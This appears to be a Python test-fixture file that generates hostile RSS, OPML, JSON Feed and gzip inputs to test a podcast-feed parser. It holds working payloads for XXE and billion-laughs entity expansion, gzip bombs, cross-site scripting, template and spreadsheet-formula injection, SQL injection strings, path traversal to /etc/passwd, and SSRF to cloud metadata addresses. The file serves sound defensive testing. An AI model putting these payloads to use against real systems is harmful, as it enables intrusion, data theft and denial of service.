"""Feeds written to do harm: one entry is one file, what it attacks, and what must come of it.

    python tests/reliability/hostile.py FOLDER      writes them all, to try them by hand

``{canary}`` stands for a local file that nobody may read, ``{server}`` for a web server nobody may ask.
``expected`` is the number of episodes that are read, or part of the one line that says why none is.
"""

from __future__ import annotations

import gzip
import json
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable

HEAD = (
    '<rss version="2.0" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd" xmlns:podcast="https://podcastindex.org/'
    'namespace/1.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:a="http://www.w3.org/2005/Atom">'
    "<channel><title>Hostile</title><link>https://show.example/</link>"
)
TAIL = "</channel></rss>"
SOUND = "<item><title>Sound</title><guid>sound</guid><itunes:duration>60</itunes:duration><description>https://github.com/a/b/pull/1</description></item>"


@dataclass(frozen=True)
class Hostile:
    """A feed that does harm, what must come of it, and what is written of it."""

    name: str
    make: Callable[[], bytes] | str | bytes
    expected: int | str
    suffix: str = ".xml"
    outputs: tuple[str, ...] = ("g.json", "g.html", "g.csv")

    def data(self, canary: str = "/etc/hostname", server: str = "http://127.0.0.1:9") -> bytes:
        """Return the file's content."""
        made = self.make() if callable(self.make) else self.make
        if isinstance(made, str):
            made = made.encode("utf-8", "surrogatepass")
        return made.replace(b"{canary}", canary.encode()).replace(b"{server}", server.encode())


def items(*inner: str) -> str:
    """Return a feed with an item around each text, and a sound one behind them."""
    return HEAD + "".join(f"<item><itunes:duration>1</itunes:duration>{item}</item>" for item in inner) + SOUND + TAIL


def doctype(declared: str, used: str) -> str:
    """Return a feed with entities in its title."""
    return f'<?xml version="1.0"?><!DOCTYPE rss [{declared}]>{items(f"<title>{used}</title><guid>x</guid>")}'


def billion(levels: int = 10) -> str:
    """Return entities that stand for ten of the one before (the "billion laughs")."""
    names = [f"&l{n};" * 10 for n in range(levels)]
    return '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{n} "{names[n - 1]}">' for n in range(1, levels))


def json_feed(**fields: object) -> str:
    """Return a JSON Feed with one item that has these fields."""
    item = {"id": "1", "title": "t", **fields}
    return json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "H", "items": [item]})


def opml(*urls: str) -> str:
    """Return a list of feeds."""
    outlines = "".join(f'<outline type="rss" text="t" xmlUrl="{url}"/>' for url in urls)
    return f'<opml version="2.0"><body>{outlines}</body></opml>'


ESC = "\x1b]0;owned\x07\x1b[2J\x1b[31m\x9b31m\x1bP+q544e\x1b\\"
SCRIPT = "&lt;script&gt;window.owned=1&lt;/script&gt;&lt;img src=x onerror=window.owned=1&gt;"
BIG = 1_000_000
MANY = 10_000  # links in an item; tried by hand with 100 000
LOT = 100_000  # of whatever stands in a row; by hand 300 000

HOSTILE = [
    # Entities (XML 1.0, 4.1): none is expanded, none is fetched
    Hostile("billion-laughs", lambda: doctype(billion(), "&l9;"), 2),
    Hostile("quadratic-entity", lambda: doctype(f'<!ENTITY a "{"a" * 50_000}">', "&a;" * 20_000), 2),
    Hostile("entity-in-itself", doctype('<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;"), 2),
    Hostile("xxe-file", doctype('<!ENTITY x SYSTEM "file://{canary}">', "&x;"), 2),
    Hostile("xxe-http", doctype('<!ENTITY x SYSTEM "{server}/xxe">', "&x;"), 2),
    Hostile("xxe-parameter", doctype('<!ENTITY % p SYSTEM "{server}/evil.dtd"> %p;', "&x;"), 2),
    Hostile("xxe-out-of-band", doctype('<!ENTITY % f SYSTEM "file://{canary}"><!ENTITY % d SYSTEM "{server}/d"> %d; %f;', "&x;"), 2),
    Hostile("xxe-doctype", '<!DOCTYPE rss SYSTEM "{server}/rss.dtd">' + items("<title>t</title>"), 2),
    Hostile("xinclude", items('<title>t</title><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{canary}" parse="text"/>'), 2),
    Hostile("stylesheet", '<?xml-stylesheet href="{server}/x.xsl" type="text/xsl"?>' + items("<title>t</title>"), 2),
    Hostile("xxe-utf16", lambda: doctype('<!ENTITY x SYSTEM "file://{canary}">', "&x;").replace("{canary}", "/etc/hostname").encode("utf-16"), 2),
    Hostile("xxe-utf7", '<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE rss' + items("<title>t</title>"), 2),
    Hostile("xxe-opml", '<!DOCTYPE opml [<!ENTITY x SYSTEM "file://{canary}">]><opml version="2.0"><body><outline text="&x;"/></body></opml>', "names no feed"),
    # Shape
    Hostile("deep-elements", lambda: items("<a>" * LOT + "</a>" * LOT), "has no items"),
    Hostile("deep-unclosed", lambda: items("<title>t</title>" + "<a>" * LOT), 1),
    Hostile("long-name-of-an-element", lambda: HEAD + f"<{'n' * 5 * BIG}>" + SOUND + TAIL, 1),
    Hostile("deep-html", lambda: items(f"<title>t</title><description><![CDATA[{'<div>' * LOT}x]]></description>"), 2),
    Hostile("deep-quotes-html", lambda: items(f"<title>t</title><description><![CDATA[{'<a href=' * LOT}]]></description>"), 2),
    Hostile("deep-outlines", lambda: "<opml version='2.0'><body>" + "<outline text='a'>" * 50_000 + "</outline>" * 50_000 + "</body></opml>", "names no feed"),
    Hostile("deep-json", lambda: '{"version": "https://jsonfeed.org/version/1", "items": ' + "[" * LOT + "]" * LOT + "}", "is not readable JSON", ".json"),
    Hostile("many-attributes", lambda: items("<title " + " ".join(f"a{n}='x'" for n in range(50_000)) + ">t</title>"), 2),
    Hostile("huge-attribute", lambda: items(f"<title>t</title><enclosure type='audio/mpeg' url='https://a.example/{'x' * 5 * BIG}'/>"), 2),
    Hostile("many-namespaces", lambda: items("<title>t</title><x " + " ".join(f'xmlns:n{n}="u{n}"' for n in range(20_000)) + "/>"), 2),
    Hostile("many-names", lambda: items("<title>t</title>" + "".join(f"<e{n}/>" for n in range(50_000))), 2),
    Hostile("huge-instruction", lambda: items(f"<title>t</title><?p {'x' * 5 * BIG}?>"), 2),
    Hostile("many-items", lambda: HEAD + "".join(f"<item><title>t{n}</title><itunes:duration>1</itunes:duration></item>" for n in range(2000)) + TAIL, 2000),
    Hostile("many-broken-items", lambda: HEAD + "<item><title>t & < </b><description><br>" * 1500 + TAIL, 1),
    # Text
    Hostile("title-of-a-megabyte", lambda: items(f"<title>{'x' * BIG}</title><guid>x</guid>"), 2),
    Hostile("title-of-marks", lambda: items(f"<title>{'e' + chr(0x301) * LOT}</title>"), 2),
    Hostile("links-many", lambda: items("<title>t</title><description>" + " ".join(f"https://e{n}.example/{n}" for n in range(MANY)) + "</description>"), 2, outputs=("g.json",)),
    Hostile("hrefs-many", lambda: items("<title>t</title><content:encoded><![CDATA[" + "".join(f"<a href='https://e.example/{n}'>x</a>" for n in range(MANY)) + "]]></content:encoded>"), 2, outputs=("g.json",)),
    Hostile("references-many", lambda: items("<title>t</title><description>" + " ".join(f"a/b#{n}" for n in range(1, MANY)) + "</description>"), 2, outputs=("g.json",)),
    Hostile("url-of-a-megabyte", lambda: items(f"<title>t</title><description>https://e.example/{'a/' * (BIG // 2)}</description>"), 2),
    Hostile("url-of-brackets", lambda: items(f"<title>t</title><description>https://e.example/{'(' * LOT}{')' * (LOT // 2)}</description>"), 2),
    Hostile("url-of-dots", lambda: items(f"<title>t</title><description>{'a.' * LOT}com https://{'a.' * LOT}com/</description>"), 2),
    Hostile("url-of-slashes", lambda: items(f"<title>t</title><description>github.com{'/' * LOT} https:{'/' * LOT}</description>"), 2),
    Hostile("many-hashes", lambda: items(f"<title>t</title><description>{'#' * LOT} {'a/b#' * LOT} {'PR ' * LOT}</description>"), 2),
    Hostile("many-angles", lambda: items(f"<title>t</title><description><![CDATA[{'<' * LOT}]]></description>"), 2),
    Hostile("unclosed-comment-html", lambda: items(f"<title>t</title><description><![CDATA[{'<!--' * LOT}]]></description>"), 2),
    Hostile("capitals", lambda: items(f"<title>{'Torch Function ' * 60}</title><description>{'TorchFunction ' * (LOT // 2)}</description>"), 2),
    Hostile("topic-words", lambda: items(f"<title>t</title><description>{'autograd vmap CUDA dispatcher ' * (LOT // 10)}</description>"), 2),
    Hostile("one-title-everywhere", lambda: HEAD + "".join(f"<item><title>vmap</title><guid>{n}</guid><description>vmap vmap</description><itunes:duration>1</itunes:duration></item>" for n in range(1000)) + TAIL, 1000),
    # Characters
    Hostile("nul-bytes", items("<title>a\0b</title><description>\0\0https://e.example/\0x</description>"), 2),
    Hostile("surrogates", items("<title>\ud800\udfff</title><description>\udc80 &#xD800; &#xDFFF;</description>"), 2),
    Hostile("bad-references", items("<title>&#0;&#1;&#xFFFF;&#99999999999999999999;&#x;&#-1;</title>"), 2),
    Hostile("controls", items("<title>\x01\x02\x08\x0b\x0c\x1f\x7f</title><description>\ufffe\uffff\ufeff</description>"), 1),
    Hostile("escape-sequences", items(f"<title>{ESC}t</title><itunes:author>{ESC}</itunes:author><description>{ESC} github.com/a/b/pull/2{ESC}</description>"), 2),
    Hostile("escape-references", items("<title>&#27;[2J&#155;31m&#x9d;0;owned&#7;</title><description>&#27;]8;;http://e.example&#27;\\x</description>"), 2),
    Hostile("right-to-left", items("<title>\u202egpj.exe\u2066\u2067\u200f</title><description>https://e.example/\u202egpj.exe</description>"), 2),
    Hostile("zero-width", items("<title>a\u200b\u200d\u2060\ufeff</title><description>https://git\u200bhub.com/a/b/pull/3</description>"), 2),
    Hostile("line-ends", items("<title>a\r\nb\u2028c\u2029d\x85e</title><guid>x\r\ny</guid>"), 2),
    Hostile("encoding-wrong", '<?xml version="1.0" encoding="ascii"?>' + items("<title>é☃</title>"), 2),
    Hostile("encoding-unknown", '<?xml version="1.0" encoding="x-owned"?>' + items("<title>é</title>"), 2),
    Hostile("encoding-idna", '<?xml version="1.0" encoding="idna"?>' + items("<title>t</title>"), 2),
    Hostile("encoding-halves", lambda: items("<title>é").encode() + b"\xff\xfe\xe9\xc3" + b"</title></item>" + TAIL.encode(), 2),
    Hostile("utf-32", lambda: items("<title>t</title>").encode("utf-32"), 2),
    # What comes out at the other end
    Hostile("script-titles", items(f"<title>{SCRIPT}</title><description>{SCRIPT}</description><guid>{SCRIPT}</guid>"), 2),
    Hostile("script-ends", items("<title>&lt;/script&gt;&lt;script&gt;owned=1&lt;/script&gt;&lt;!--</title><description>]]&gt; &lt;!--&lt;script&gt; {{owned}} ${owned}</description>"), 2),
    Hostile("script-links", items("<title>t</title><link>javascript:owned=1</link><description>&lt;a href='javascript:owned=1'&gt;x&lt;/a&gt; &lt;a href='  JaVa&#10;ScRiPt:owned=1'&gt;y&lt;/a&gt; &lt;a href='data:text/html,&lt;script&gt;'&gt;z&lt;/a&gt; &lt;a href='vbscript:x'&gt;v&lt;/a&gt;</description>"), 2),
    Hostile("templates", items("<title>{{ 7*7 }} {% for x in y %} ${7*7} #{7*7} %s %(x)s {0.__class__}</title>"), 2),
    Hostile("formulas", items("<title>=HYPERLINK(\"http://e.example\",\"x\")</title><description>+1 -1 @SUM(1) =cmd|'/C calc'!A0</description><guid>=1+1</guid>"), 2),
    Hostile("quotes", items("<title>\"'`;}]) DROP TABLE nodes; -- \\</title><description>https://e.example/\"'`\\</description>"), 2),
    Hostile("paths", items("<title>../../../../tmp/owned</title><guid>/etc/passwd</guid><link>https://show.example/../../../etc/passwd</link>", "<title>..</title><guid>..\\..\\x</guid>", "<title>CON</title><guid>.</guid>", "<title>/</title><guid>a\0b</guid>"), 5),
    Hostile("show-title-path", items("<title>t</title>").replace("<title>Hostile</title>", "<title>../../owned/\0/~root</title>"), 2),
    Hostile("no-titles", HEAD + "<item><itunes:duration>1</itunes:duration></item>" * 20 + TAIL, "has no items"),
    Hostile("one-guid", HEAD + "".join(f"<item><guid>g</guid><title>t{n}</title><itunes:duration>1</itunes:duration></item>" for n in range(50)) + TAIL, 50),
    Hostile("ids-of-others", items("<title>podcast:hostile</title><guid>podcast:hostile</guid>", "<title>github:a/b#1</title><link>https://github.com/a/b/pull/1</link>"), 3),
    Hostile("odd-dates", items("<title>a</title><pubDate>Mon, 99 Foo 99999 99:99:99 +9999</pubDate>", "<title>b</title><pubDate>0000-00-00</pubDate>", "<title>c</title><pubDate>Fri, 31 Dec 9999 23:59:59 -2359</pubDate>", f"<title>d</title><pubDate>{'1' * 5000}</pubDate>"), 5),
    Hostile("odd-numbers", items(f"<title>a</title><itunes:episode>{'9' * 5000}</itunes:episode><podcast:season>1e999</podcast:season><itunes:duration>{'9' * 5000}</itunes:duration>", "<title>b</title><itunes:duration>-1:-1:-1</itunes:duration><itunes:episode>NaN</itunes:episode>"), 3),
    Hostile("private-links", items("<title>t</title><podcast:transcript url='{server}/t.vtt' type='text/vtt'/><podcast:chapters url='{server}/c.json' type='application/json+chapters'/><itunes:image href='{server}/i.png'/><description>{server}/x http://169.254.169.254/latest</description>"), 2),
    Hostile("file-links", items("<title>t</title><link>file://{canary}</link><podcast:transcript url='file://{canary}' type='text/vtt'/><description>&lt;a href='file://{canary}'&gt;x&lt;/a&gt; &lt;img src='{canary}'&gt;</description>"), 2),
    # JSON Feed
    Hostile("json-types", json_feed(title={"a": []}, url=[1], content_html=17, tags={"x": 1}, authors="a", attachments=[None, 1, {"url": 3}]), 1, ".json"),
    Hostile("json-numbers", '{"version":"https://jsonfeed.org/version/1","items":[{"id":' + "9" * 10_000 + ',"title":"t","content_text":1e999}]}', "is not readable JSON", ".json"),
    Hostile("json-nan", '{"version":"https://jsonfeed.org/version/1","items":[{"id":NaN,"title":"t","content_text":"x"}]}', 1, ".json"),
    Hostile("json-surrogates", '{"version":"https://jsonfeed.org/version/1","items":[{"id":"1","title":"\\ud800\\u0000\\u001b[2J","content_text":"\\udfff"}]}', 1, ".json"),
    Hostile("json-scripts", json_feed(title="</script><script>owned=1</script>", url="javascript:owned=1", content_html="<script>owned=1</script><a href='javascript:owned=1'>x</a>"), 1, ".json"),
    # Lists and packed files
    Hostile("opml-private", opml("{server}/f", "file://{canary}", "javascript:1"), "", ".opml"),
    Hostile("opml-thousands", lambda: opml(*(f"https://e{n}.example/" for n in range(50_001))), "is a list of more than 50,000 feeds", ".opml"),
    Hostile("gzip-bomb", lambda: gzip.compress(bytes(300_000_000), 1), "unpacks to more than 100 times its size", ".xml.gz"),
    Hostile("gzip-cut", lambda: gzip.compress(items("<title>t</title>").encode())[:-12], "compressed data", ".xml.gz"),
    # More of characters, shapes and values
    Hostile("utf-16-unmarked", lambda: items("<title>é</title>").encode("utf-16-le"), 2),
    Hostile("utf-16-behind-a-blank-line", lambda: ("\r\n " + items("<title>é</title>")).encode("utf-16-be"), "is binary data, not a feed"),
    Hostile("utf-32-beyond", lambda: b"\x00\x00\xfe\xff" + b"\x7f\xff\xff\xff" * 1000, "is not a feed"),
    Hostile("marks", lambda: b"\xef\xbb\xbf" * 3 + items("<title>é</title>").encode(), 2),
    Hostile("ebcdic", lambda: ('<?xml version="1.0" encoding="cp037"?>' + items("<title>t</title>")).encode("cp037"), "is not a feed"),
    Hostile("xml-1.1", '<?xml version="1.1"?>' + items("<title>a&#1;b\x85c</title>"), 2),
    Hostile("base-scripts", items("<title>t</title><a:link xml:base='javascript:owned=1//' href='x'/><description xml:base='file:///etc/'>&lt;a href='passwd'&gt;x&lt;/a&gt;</description>"), 2),
    Hostile("parameter-entities", doctype("<!ENTITY % a \"<!ENTITY b SYSTEM 'file://{canary}'>\">%a;%a;", "&b;"), 2),
    Hostile("doctype-elements", lambda: "<!DOCTYPE rss [" + "".join(f"<!ELEMENT e{n} (e{n + 1}?,e{n + 1}?)*>" for n in range(20_000)) + "]>" + items("<title>t</title>"), "is XML, but no feed"),
    Hostile("doctype-defaults", lambda: f"<!DOCTYPE rss [<!ATTLIST title evil CDATA '{'x' * BIG}'>]>" + items("<title>t</title>"), "is XML, but no feed"),
    Hostile("items-in-items", lambda: HEAD + "<item><title>x</title>" * 20_000 + "</item>" * 20_000 + TAIL, 1),
    Hostile("feed-in-feed", items("<title>t</title><rss><channel><item><title>inner</title></item></channel></rss>"), 3),
    Hostile("cdata-in-cdata", items("<title>t</title><description><![CDATA[<![CDATA[<p>github.com/a/b/pull/5</p>]]]]><![CDATA[>]]></description>", "<title>u</title><description><![CDATA[<![CDATA[x]]>]]></description>"), 3),
    Hostile("many-enclosures", lambda: items("<title>t</title>" + "".join(f"<enclosure url='https://a.example/{n}.mp3' type='audio/mpeg'/>" for n in range(MANY))), 2),
    Hostile("many-persons", lambda: items("<title>t</title>" + "".join(f"<podcast:person>Name Nr {n}</podcast:person><category>c{n}</category>" for n in range(MANY))), 2),
    Hostile("many-authors", lambda: items(f"<title>t</title><itunes:author>{'Ann Bee, ' * LOT}{'and ' * LOT}</itunes:author>"), 2),
    Hostile("many-hints", lambda: HEAD + "".join(f"<item><title>word{n}</title><guid>{n}</guid><description>listen to the episode on {' and '.join(f'word{m}' for m in range(200))}</description></item>" for n in range(200)) + TAIL, 200),
    Hostile("many-idna-hosts", lambda: items("<title>t</title><description>" + " ".join(f"https://ü{n}ß.example/" for n in range(MANY // 5)) + "</description>"), 2, outputs=("g.json",)),
    Hostile("odd-hosts", lambda: items(f"<title>t</title><description>https://{'é' * LOT}.example/ https://xn--{'a' * LOT}.com/ http://[fe80::1%25eth0]/ http://u:p@e.example/ http://e.example:99999/</description>"), 2),
    Hostile("svg-notes", items("<title>t</title><description>&lt;svg onload=owned=1&gt;&lt;math&gt;&lt;a xlink:href=javascript:owned=1&gt;x&lt;/a&gt;&lt;iframe srcdoc='&lt;script&gt;owned=1&lt;/script&gt;'&gt;</description>"), 2),
    Hostile("far-dates", items(*(f"<title>{n}</title><pubDate>{date}</pubDate>" for n, date in enumerate(("0001-01-01T00:00:00+23:59", "-0001-01-01", "10000-01-01", "1e400", "Thu, 30 Feb 2023 10:00:00 GMT", "2024-06-30T23:59:60Z", "Wed, 01 Jan 2020 00:00:00 +9959")))), 8),
    Hostile("iso-dates", items(*(f"<title>{n}</title><pubDate>{date}</pubDate>" for n, date in enumerate(("2021-W31-1", "2021-W54-1", "9999-W53-7", "0000-W01-1", "2021-W\u0663\u0661-1", "2021-366", "9999-366", "2021214T25:00", "2021-W31-1" + "T" * 5000, "Aug 31 " * 900)))), 11),
    Hostile("parsers-differ", items("<title>t</title><link>http://169.254.169.254\\@public.example/</link><description>http://10.0.0.1\\@a.example/ http://[2002:7f00:1::]/ http://[64:ff9b::a00:1]/ http://[3fff::1]/ &lt;a href='http:\\\\127.0.0.1\\x'&gt;x&lt;/a&gt;</description>"), 2),
    Hostile("odd-durations", items(*(f"<title>{n}</title><itunes:duration>{time}</itunes:duration>" for n, time in enumerate(("99999999999:00", "1e308", "1:2:3:4:5:6", "\u221e", "0x10", "\u0663:\u0664", "PT99999999999H")))), 8),
    Hostile("odd-date-each", lambda: HEAD + "".join(f"<item><title>t{n}</title><pubDate>\u0394\u03b5\u03c5, {n % 28} \u0399\u03bf\u03c5\u03bd {2000 + n % 25} {n}</pubDate></item>" for n in range(1000)) + TAIL, 1000, outputs=("g.json",)),
    Hostile("json-twice", '{"version":"x","version":"https://jsonfeed.org/version/1.1","items":[],"items":[{"id":"1","id":"2","title":"a","title":"b"}]}', 1, ".json"),
    Hostile("json-utf-16", lambda: json_feed(title="é").encode("utf-16"), 1, ".json"),
    Hostile("json-list", "[1, 2, 3]", "is JSON, but no JSON Feed", ".json"),
    Hostile("gzip-members", lambda: gzip.compress(b"") * LOT + gzip.compress(items("<title>t</title>").encode()), 2, ".xml.gz"),
    Hostile("gzip-name", lambda: b"\x1f\x8b\x08\x08\0\0\0\0\0\xff" + b"../../x" * LOT + b"\0" + gzip.compress(items("<title>t</title>").encode())[10:], 2, ".xml.gz"),
    # No feeds
    Hostile("empty", b"", "is empty"),
    Hostile("noise", lambda: bytes((n * n + n // 7) % 256 for n in range(50_000)), "is binary data, not a feed"),
    Hostile("svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>owned=1</script></svg>', "is XML, but no feed"),
]  # fmt: skip


if __name__ == "__main__":
    MANY, LOT = 100_000, 300_000
    folder = Path(sys.argv[1])
    folder.mkdir(exist_ok=True)
    for entry in HOSTILE:
        (folder / f"{entry.name}{entry.suffix}").write_bytes(entry.data())
    print(f"{len(HOSTILE)} files in {folder}")
